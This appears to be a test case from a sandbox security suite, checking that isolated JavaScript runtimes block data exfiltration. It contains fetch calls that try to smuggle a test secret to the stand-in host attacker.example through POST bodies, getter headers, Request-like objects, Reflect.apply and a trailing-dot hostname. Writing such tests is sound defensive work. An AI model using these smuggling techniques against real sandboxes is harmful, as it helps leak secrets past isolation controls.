/*---
id: ex-fetch-04-init-smuggling
description: "Smuggles data through fetch options (method, headers with getters, body, redirect, a Request-like object) and through Reflect.apply, checking every form is refused before any request leaves."
kind: malicious
category: exfiltration
technique: EX-fetch
variant: combined
references:
  - "isolated-vm FAQ"
  - "Deno permissions"
  - "workerd capability bindings"
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
input: { secret: "s3cr3t" }
flags: [async]
---*/
if (typeof fetch !== 'function') return 'held';
const headers = { get 'x-leak'() { return input.secret; } };
const attempts = [
  () => fetch('https://attacker.example/', { method: 'POST', body: input.secret, headers, redirect: 'follow' }),
  () => fetch({ url: 'https://attacker.example/', method: 'GET', toString() { return this.url; } }),
  () => Reflect.apply(fetch, undefined, ['//attacker.example/' + input.secret]),
  () => fetch('https://attacker.example./'),
];
for (const attempt of attempts) {
  const outcome = await Promise.resolve().then(attempt).then(() => 'ESCAPED', () => 'refused');
  if (outcome !== 'refused') return outcome;
}
return 'held';
